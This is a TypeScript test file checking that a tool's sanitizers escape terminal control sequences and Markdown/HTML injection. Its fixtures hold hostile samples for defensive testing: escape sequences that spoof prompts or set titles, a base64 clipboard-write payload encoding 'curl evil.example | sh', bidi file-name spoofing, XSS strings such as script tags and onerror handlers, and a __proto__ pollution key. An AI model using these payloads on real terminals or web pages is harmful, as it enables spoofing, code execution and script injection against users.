// Issue 12: evidence strings are neutralised before a terminal or a Markdown file sees them.
import { marked } from 'marked';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  escapeControl,
  hasUnsafeControls,
  markdownCode,
  markdownCodeBlock,
  markdownInline,
  neutralizeDeep,
  neutralizeLine,
  neutralizeText,
} from '../../src/core/text/neutralize.ts';

const ESC = '\u001b';
/** Hostile strings as they reach evidex inside container names, log lines, file names, header values. */
const HOSTILE: Record<string, string> = {
  'SGR colour': `${ESC}[31mred${ESC}[0m`,
  'screen clear + home': `${ESC}[2J${ESC}[Hfake prompt $ `,
  'OSC 8 hyperlink': `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`,
  'OSC 52 clipboard write': `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`,
  'window title (OSC 0 / BEL)': `${ESC}]0;pwned\u0007`,
  'C1 CSI (U+009B)': '\u009b31mred',
  'C1 OSC (U+009D) + ST (U+009C)': '\u009d0;title\u009c',
  'carriage return overwrite': 'ok: 0 findings\rP0 hidden',
  'backspace erase': 'secret\b\b\b\b\b\bpublic',
  'forged line': 'quantum_backend\nP0 forged finding line',
  'bidi override': 'abc\u202etxt.exe',
  'NUL and DEL': 'a\u0000b\u007fc',
  DCS: `${ESC}P1$r0m${ESC}\\`,
};

/** What a terminal would act on: ESC, C1, BEL, CR, BS, NUL, DEL, bidi controls. */
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('neutralizeLine', () => {
  for (const [name, s] of Object.entries(HOSTILE)) {
    it(`${name}: nothing active and no newline survives, and the escape is visible`, () => {
      const out = neutralizeLine(s);
      expect(out).not.toMatch(ACTIVE);
      expect(out).not.toContain('\n');
      expect(out).not.toBe(s);
      expect(out).toMatch(/\\(?:x[0-9a-f]{2}|u[0-9a-f]{4}|[nrbt])/);
    });
  }

  it('shows the exact escapes', () => {
    expect(neutralizeLine(`${ESC}[31mred`)).toBe('\\x1b[31mred');
    expect(neutralizeLine('a\nb\tc\rd\be')).toBe('a\\nb\\tc\\rd\\be');
    expect(neutralizeLine('\u009b2J')).toBe('\\u009b2J');
    expect(neutralizeLine('x\u202ey')).toBe('x\\u202ey');
    expect(neutralizeLine('\u0000\u007f')).toBe('\\x00\\x7f');
    expect(escapeControl('\u0007')).toBe('\\x07');
  });

  it('returns ordinary strings unchanged, including non-ASCII text', () => {
    for (const s of ['quantum_backend', 'Größe 5 GiB — ok', '日本語のログ', 'emoji 🚀 ok', 'C:\\Users\\x', '']) {
      expect(neutralizeLine(s)).toBe(s);
    }
  });
});

describe('neutralizeText', () => {
  it('keeps LF and TAB, turns CRLF into LF, escapes a lone CR and every sequence', () => {
    expect(neutralizeText('a\tb\r\nc\n')).toBe('a\tb\nc\n');
    expect(neutralizeText('progress 10%\rprogress 100%\n')).toBe('progress 10%\\rprogress 100%\n');
    for (const s of Object.values(HOSTILE)) {
      const out = neutralizeText(s);
      expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    }
  });

  it('hasUnsafeControls tells which strings need it', () => {
    expect(hasUnsafeControls('plain\nlines\t')).toBe(false);
    expect(hasUnsafeControls(`x${ESC}[0m`)).toBe(true);
    expect(hasUnsafeControls('a\rb')).toBe(true);
  });

  it('property: no output ever holds an active character, and LF count is kept', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (s) => {
        const out = neutralizeText(s);
        expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
        expect(out.split('\n').length).toBe(s.split('\n').length);
        expect(neutralizeLine(s)).not.toMatch(/[\n\r\t]/);
      }),
    );
  });

  /** Character by character, as the escapes are defined: the reference for every path of the scanner. */
  function reference(s: string, line: boolean): string {
    let out = '';
    for (let i = 0; i < s.length; i++) {
      const ch = s[i]!;
      if (!line && ch === '\r' && s[i + 1] === '\n') continue;
      if ((!line && (ch === '\n' || ch === '\t')) || !(hasUnsafeControls(ch) || /[\t\n]/.test(ch))) out += ch;
      else out += escapeControl(ch);
    }
    return out;
  }

  it('property: lines sparse or dense with controls, few or many distinct ones, escape as the reference', () => {
    const unit = fc.constantFrom('a', 'é', ' ', '\r', '\n', '\r\n', '\t', ESC, '\u009b', '\u202e', '\ufeff', '\b');
    const many = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));
    const text = fc.oneof(
      fc.array(unit, { maxLength: 1500 }).map((a) => a.join('')),
      fc.array(fc.oneof(unit, many), { maxLength: 1500 }).map((a) => a.join('')),
      // Runs of one character (the scanner escapes a run of one control at once), CR runs before LF among them.
      fc
        .array(fc.tuple(unit, fc.integer({ min: 1, max: 40 })), { maxLength: 60 })
        .map((a) => a.map(([u, n]) => u.repeat(n)).join('')),
    );
    fc.assert(
      fc.property(text, (s) => {
        expect(neutralizeText(s)).toBe(reference(s, false));
        expect(neutralizeLine(s)).toBe(reference(s, true));
      }),
      { numRuns: 300 },
    );
    const dense = `${'x\u202e'.repeat(400)}\r\n${'\b'.repeat(300)}\r${'\r'.repeat(50)}\n${'\ufeff'.repeat(70)}`;
    expect(neutralizeText(dense)).toBe(reference(dense, false));
    expect(neutralizeText(dense)).toContain('\\u202e');
    expect(neutralizeLine(dense)).toBe(reference(dense, true));
  });
});

describe('neutralizeDeep', () => {
  it('neutralises every string at any depth, prose fields as text, and leaves the input untouched', () => {
    const input = {
      name: HOSTILE['SGR colour']!,
      list: ['plain', HOSTILE['forged line']!],
      nested: { deep: [{ fix: 'line one\nline two\r\n', title: HOSTILE['bidi override']! }] },
      n: 3,
    };
    const before = JSON.stringify(input);
    const out = neutralizeDeep(input);
    const strings = JSON.stringify(out)
      .match(/"(?:[^"\\]|\\.)*"/g)!
      .map((q) => JSON.parse(q) as string);
    for (const s of strings) expect(s).not.toMatch(ACTIVE);
    expect(out.nested.deep[0]!.fix).toBe('line one\nline two\n');
    expect(out.list[1]).not.toContain('\n');
    expect(JSON.stringify(input)).toBe(before);
    expect(out).not.toBe(input);
  });

  it('copies only the branches where a string changed; a clean value comes back as it is', () => {
    const clean = { a: { b: ['x', 'y'] }, c: [{ d: 'z' }] };
    expect(neutralizeDeep(clean)).toBe(clean);
    const mixed = { same: { b: ['x'] }, changed: ['ok', `${'\u001b'}[2J`] };
    const out = neutralizeDeep(mixed);
    expect(out).not.toBe(mixed);
    expect(out.same).toBe(mixed.same);
    expect(out.changed).not.toBe(mixed.changed);
    expect(out.changed[0]).toBe('ok');
  });

  it('keeps a "__proto__" key of parsed JSON as an own key, never as the copy\'s prototype', () => {
    const esc = '\\u001b'; // ESC, as JSON writes it
    const parsed = JSON.parse(`{"__proto__": {"polluted": "${esc}[31m"}, "x": "${esc}[0m"}`) as object;
    const out = neutralizeDeep(parsed);
    expect(Object.getPrototypeOf(out)).toBe(Object.prototype);
    expect(Object.keys(out)).toEqual(['__proto__', 'x']);
    expect((out as { polluted?: unknown }).polluted).toBeUndefined();
    expect(JSON.stringify(out)).not.toMatch(ACTIVE);
  });
});

describe('Markdown', () => {
  /** Render Markdown the way the report pages do (marked, GFM on). */
  const html = (md: string): string => marked.parse(md, { async: false, gfm: true });

  const MD_HOSTILE = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '[click](javascript:alert(1))',
    '![x](https://evil.example/track.png)',
    '**bold** _em_ ~~strike~~ `code`',
    'a | b | c',
    '# heading',
    '- list item',
    '1. ordered',
    '> quote',
    'https://evil.example/autolink and www.evil.example',
    '&lt;script&gt; entity',
    'name\n# forged heading\n<script>x</script>',
    `${ESC}]8;;https://evil.example${ESC}\\link`,
  ];

  it('markdownInline: renders as the literal text, with no link, image, tag, emphasis, heading or list', () => {
    for (const s of MD_HOSTILE) {
      const out = html(`cell: ${markdownInline(s)}`);
      expect(out, s).not.toMatch(/<(?:a|img|script|em|strong|del|code|h\d|li|blockquote|table)\b/);
      expect(out).toMatch(/^<p>cell: /);
      expect(out.trim().split('\n')).toHaveLength(1);
    }
    // At the very start of a line, too.
    for (const s of ['# heading', '- item', '+ item', '1. item', '2) item', '=== ', '> q']) {
      expect(html(markdownInline(s)), s).toMatch(/^<p>/);
    }
    // A table cell cannot be split.
    const table = html(`| a | b |\n| - | - |\n| ${markdownInline('x | y')} | z |\n`);
    expect(table.match(/<td>/g)).toHaveLength(2);
  });

  it('markdownInline keeps ordinary names readable', () => {
    expect(markdownInline('quantum_backend')).toBe('quantum\\_backend');
    expect(html(markdownInline('quantum_backend'))).toBe('<p>quantum_backend</p>\n');
    expect(html(markdownInline('redis:7.2-alpine'))).toBe('<p>redis:7.2-alpine</p>\n');
  });

  it('markdownCode: one code span holding the literal value, whatever backticks it holds', () => {
    for (const s of ['plain', 'a`b', '``x``', '`start', 'end`', ' spaced ', 'x\ny', `${ESC}[31m`]) {
      const out = html(markdownCode(s));
      expect(out.match(/<code>/g), s).toHaveLength(1);
      const inner = /<code>([\s\S]*)<\/code>/.exec(out)?.[1] ?? '';
      const decoded = inner
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&quot;/g, '"')
        .replace(/&#39;/g, "'")
        .replace(/&amp;/g, '&');
      expect(decoded).toBe(neutralizeLine(s));
    }
  });

  it('markdownCodeBlock: no line of the excerpt can close the block', () => {
    const excerpt = 'line 1\n```\n# not a heading\n````\n<script>x</script>\n\u001b[2J';
    const out = html(markdownCodeBlock(excerpt, 'text'));
    expect(out.match(/<pre>/g)).toHaveLength(1);
    expect(out).not.toMatch(/<h1|<script/);
    expect(out).toContain('\\x1b[2J');
  });
});
